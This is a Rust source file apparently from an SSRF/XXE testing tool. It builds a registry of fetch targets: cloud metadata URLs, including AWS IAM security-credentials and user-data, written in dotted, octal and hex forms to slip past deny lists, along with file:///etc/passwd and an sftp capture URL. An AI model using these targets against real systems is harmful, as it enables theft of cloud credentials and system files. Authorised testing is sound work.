//! Catalogue of well-known SSRF/XXE fetch targets.
//!
//! Cloud metadata endpoints are listed three times, once per encoding of the link-local
//! address: dotted decimal, dotted octal (`/oct`) and a single hex integer (`/hex`). A fetcher
//! that applies a deny list before normalizing the address will block only some of them.

use std::collections::HashMap;

const METADATA_DOTTED: &str = "169.254.169.254";
const METADATA_OCTAL: &str = "0251.0376.0251.0376";
const METADATA_HEX: &str = "0xA9FEA9FE";

/// Metadata targets as `(key, path)` on the link-local metadata host.
const METADATA_TARGETS: &[(&str, &str)] = &[
    ("google/metadata", "/computeMetadata/v1/"),
    ("openstack/metadata", "/openstack"),
    ("rackspace/metadata", "/openstack"),
    ("hp/metadata", "/2009-04-04/meta-data/"),
    ("aws/userdata", "/latest/user-data/"),
    ("aws/hostname", "/latest/meta-data/hostname/"),
    ("aws/credentials", "/latest/meta-data/iam/security-credentials/"),
];

/// Immutable key -> URL map, built once at start-up and shared read-only.
#[derive(Debug, Clone)]
pub struct TargetRegistry {
    targets: HashMap<String, String>,
}

impl TargetRegistry {
    /// `hostname` and `tcp_port` describe this server's own TCP capture listener, advertised by
    /// the `sftp` entry.
    pub fn new(hostname: &str, tcp_port: u16) -> Self {
        let mut targets = HashMap::new();
        targets.insert("file/passwd".to_string(), "file:///etc/passwd".to_string());
        targets.insert("file/hosts".to_string(), "file:///etc/hosts".to_string());
        targets.insert("sftp".to_string(), format!("sftp://{}:{}", hostname, tcp_port));

        for (key, path) in METADATA_TARGETS {
            for (suffix, host) in [
                ("", METADATA_DOTTED),
                ("/oct", METADATA_OCTAL),
                ("/hex", METADATA_HEX),
            ] {
                targets.insert(format!("{}{}", key, suffix), format!("http://{}{}", host, path));
            }
        }

        Self { targets }
    }

    pub fn get(&self, key: &str) -> Option<&str> {
        self.targets.get(key).map(String::as_str)
    }

    /// Looks up a key given as path segments, e.g. `["aws", "credentials", "hex"]`.
    pub fn get_segments(&self, segments: &[&str]) -> Option<&str> {
        if segments.is_empty() {
            return None;
        }
        self.get(&segments.join("/"))
    }

    pub fn len(&self) -> usize {
        self.targets.len()
    }

    pub fn is_empty(&self) -> bool {
        self.targets.is_empty()
    }
}
